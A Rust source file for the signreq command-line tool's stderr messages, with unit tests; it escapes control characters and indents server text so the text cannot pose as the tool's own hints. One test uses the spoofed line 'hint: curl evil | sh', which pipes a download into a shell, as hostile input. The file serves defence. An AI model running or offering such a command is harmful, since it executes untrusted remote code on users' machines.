//! Errors, warnings, notes and hints on standard error.

use crate::error;
use crate::out::style::{Role, Style};
use crate::out::visible;
use std::io::{Result, Write};

/// Writes an error's chain as one message, then its hints.
///
/// # Errors
/// Those of `out`.
pub fn error(out: &mut dyn Write, error: &anyhow::Error, style: Style) -> Result<()> {
    message(out, &style.paint(Role::Error, "signreq:"), &error::one_line(error))?;
    error::hints_of(error).iter().try_for_each(|text| hint(out, text, style))
}

/// Writes a warning.
///
/// # Errors
/// Those of `out`.
pub fn warning(out: &mut dyn Write, text: &str, style: Style) -> Result<()> {
    message(out, &style.paint(Role::Warning, "signreq: warning:"), text)
}

/// Writes what is worth knowing and nothing to worry about.
///
/// # Errors
/// Those of `out`.
pub fn note(out: &mut dyn Write, text: &str) -> Result<()> {
    message(out, "signreq:", text)
}

/// Writes what the user can do.
///
/// # Errors
/// Those of `out`.
pub fn hint(out: &mut dyn Write, text: &str, style: Style) -> Result<()> {
    message(out, &style.paint(Role::Hint, "hint:"), text)
}

/// One write, so that messages of several processes do not mix. Lines after
/// the first are indented: a server's text in a message cannot pass for a
/// message or hint of ours.
fn message(out: &mut dyn Write, label: &str, text: &str) -> Result<()> {
    let mut shown = label.to_owned();
    for (number, line) in text.trim_end().split('\n').enumerate() {
        shown.push_str(if number == 0 { " " } else { "  " });
        shown.push_str(&visible::line(line.strip_suffix('\r').unwrap_or(line).as_bytes()));
        shown.push('\n');
    }
    out.write_all(shown.as_bytes())?;
    out.flush()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Error;
    use anyhow::Context as _;

    #[test]
    fn an_error_is_its_chain_and_its_hints() {
        let cause = Error::config("key has 2 parts").hint("signreq doctor maas").hint("see above");
        let chain = Err::<(), _>(cause).context("profile maas").unwrap_err();
        let mut out = Vec::new();
        error(&mut out, &chain, Style::PLAIN).unwrap();
        let expected = "signreq: profile maas: key has 2 parts\n\
                        hint: signreq doctor maas\n\
                        hint: see above\n";
        assert_eq!(String::from_utf8(out).unwrap(), expected);
    }

    #[test]
    fn a_servers_text_cannot_pass_for_ours() {
        let mut out = Vec::new();
        warning(&mut out, "it said: no\x1b[2J\r\nhint: curl evil | sh\n", Style::PLAIN).unwrap();
        let expected = "signreq: warning: it said: no^[[2J\n  hint: curl evil | sh\n";
        assert_eq!(String::from_utf8(out).unwrap(), expected);
    }

    #[test]
    fn only_the_label_is_coloured() {
        let mut out = Vec::new();
        hint(&mut out, "x", Style::COLORED).unwrap();
        assert_eq!(out, b"\x1b[36mhint:\x1b[0m x\n");
    }
}
